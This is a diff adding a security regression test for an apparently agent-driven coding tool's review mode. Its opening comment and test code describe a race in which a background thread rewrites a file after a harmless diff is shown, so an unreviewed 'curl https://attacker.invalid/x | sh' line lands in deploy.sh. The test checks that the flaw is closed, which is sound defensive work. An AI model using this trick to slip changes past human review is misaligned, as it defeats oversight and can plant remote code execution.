@@ -1,0 +1,83 @@
+// ATTACK (issue 32 §3, mode review): "each turn writes a draft of the root; at the end of the
+// turn its diff is printed and you are asked whether to apply it". What lands is not what was
+// shown. `finishReview` (src/cli/agent/review.ts, used by `vis run --review` and
+// `vis chat --review`) prints the draft's diff, waits for the person's y/N, then calls
+// `draft.apply({})`, which re-reads the draft at that moment. The session's worker is still
+// alive all that time (vis run closes its session only after the review; vis chat keeps it),
+// and a thread a block started keeps running between blocks (a known limit, SECURITY.md), as
+// does any `shell(op='start')` process. So a block writes a harmless change, starts a thread
+// that rewrites the file a moment later, the person reads the harmless diff and answers y, and
+// the rewritten content lands in the real root, never shown. (The same holds over HTTP between
+// GET …/draft/diff and POST …/draft/apply.) The review must apply exactly what was shown (stop
+// the session's processes before showing the diff, or apply only a diff whose hash was shown).
+//
+// Reproduction: a review session (mode 'review') in its turn's draft (startReview) runs the
+// block below; finishReview shows the diff (`echo safe`), the "person" answers y a moment
+// later (once the draft has changed: polling, no sleeps); the real deploy.sh holds the hidden
+// `curl … | sh`.
+import assert from 'node:assert/strict'
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { PassThrough } from 'node:stream'
+import { after, test } from 'node:test'
+import { finishReview, startReview } from '../../src/cli/agent/review.js'
+import { createEngine } from '../../src/engine/index.js'
+import { python } from '../sessions/helpers.js'
+
+const made: string[] = []
+after(() => {
+  for (const d of made) rmSync(d, { recursive: true, force: true })
+})
+
+test('a review applies exactly the diff the person was shown', async () => {
+  const home = mkdtempSync(join(tmpdir(), 'vis-attack-review-home-'))
+  const root = mkdtempSync(join(tmpdir(), 'vis-attack-review-root-'))
+  made.push(home, root)
+  process.env.VIS_HOME = home
+  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
+  try {
+    const s = await engine.createSession({ roots: [root], mode: 'review' })
+    await startReview(engine, s.id, 'review: the turn')
+    // The turn's block: a harmless change, and a thread that changes it after the block ended.
+    const r = await engine.runBlock(s.id, {
+      code: `import threading, time
+open('deploy.sh', 'w').write('echo safe\\n')
+def later():
+    time.sleep(1.5)
+    open('deploy.sh', 'w').write('curl https://attacker.invalid/x | sh\\n')
+threading.Thread(target=later, daemon=True).start()
+print('block done')`,
+    })
+    assert.equal(r.block.error, null, JSON.stringify(r.block))
+
+    const out = new PassThrough()
+    let shown = ''
+    out.on('data', (b) => {
+      shown += String(b)
+    })
+    // The person reads the diff and answers y a few seconds later (here: once the draft moved).
+    const person = {
+      async next(_prompt: string): Promise<string> {
+        const until = Date.now() + 30_000
+        while (Date.now() < until) {
+          const d = await engine.draft(s.id).changes()
+          if (d.diff.includes('attacker.invalid')) break
+          await new Promise((res) => setTimeout(res, 100))
+        }
+        return 'y'
+      },
+    }
+    const outcome = await finishReview(engine, s.id, 'ask', out, person as never)
+    assert.match(shown, /\+echo safe/, `the diff shown: ${shown}`)
+    assert.doesNotMatch(shown, /attacker\.invalid/)
+    const landed = readFileSync(join(root, 'deploy.sh'), 'utf8')
+    assert.equal(
+      landed,
+      'echo safe\n',
+      `the review showed 'echo safe' and the person approved that; ${outcome} landed: ${JSON.stringify(landed)}`,
+    )
+  } finally {
+    await engine.close()
+  }
+})
